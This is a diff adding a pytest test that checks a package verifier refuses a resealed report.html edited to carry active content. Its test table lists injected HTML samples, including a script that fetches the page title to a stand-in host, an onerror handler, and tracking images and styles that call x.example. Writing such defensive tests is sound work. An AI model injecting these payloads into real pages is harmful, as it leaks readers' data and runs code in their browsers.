@@ -1072,3 +1072,38 @@ def test_a_look_is_suspended_by_true_not_by_one() -> None:
     for value in (1, 1.0, "true"):
         with pytest.raises(UserError, match=r"^p.zip: look suspended: is not true$"):
             checked("p.zip", "look", {**look, "suspended": value}, Look)
+
+
+REPORT_PAGE_EDITS = {  # each resealed: only the page's own check can refuse it
+    "a script": (("</h1>", "</h1><script>fetch('https://x.example/?'+document.title)</script>"),
+                 "a <script> element"),
+    "an event handler": (("<img alt=", "<img onerror=alert(1) alt="),
+                         "the attribute onerror on <img>"),
+    "a tracking image": (('src="data:image/png;base64,', 'src="https://x.example/p.png?'),
+                         "an image that is not a PNG data URL"),
+    "an imported style": (("<style>", "<style>@import 'https://x.example/a.css';"),
+                          "a style that imports, fetches or escapes"),
+    "a fetching style": (("body{", "body{background:url(https://x.example/p.png);"),
+                         "a style that imports"),
+    "a link": (("</h1>", "</h1><a href=https://x.example>the full report</a>"), "a <a> element"),
+    "a comment": (("</h1>", "</h1><!--[if IE]><script>x</script><![endif]-->"),
+                  "a tag that is not one"),
+    "a stray bracket": (("</h1>", "</h1>1 < 2"), "a stray '<' outside a tag"),
+}
+
+
+@pytest.mark.parametrize("what", list(REPORT_PAGE_EDITS))
+def test_a_report_page_that_could_run_or_fetch_is_refused(frozen_package, what, tmp_path: Path,
+                                                          capsys) -> None:
+    """report.html is opened in a browser by whoever checks the evidence; a forger reseals any
+    page (verified before)."""
+    good, _ = frozen_package
+    (old, new), needle = REPORT_PAGE_EDITS[what]
+    with zipfile.ZipFile(good) as zf:
+        page = zf.read("report.html").decode()
+    assert old in page
+    forged = _resealed(good, tmp_path / "forged.zip", _manifest(good),
+                       {"report.html": page.replace(old, new, 1).encode()})
+    code, err = _verify_cli(forged, capsys)
+    assert code == 2 and err.count("\n") == 1, err
+    assert f"report.html holds {needle}" in err, err
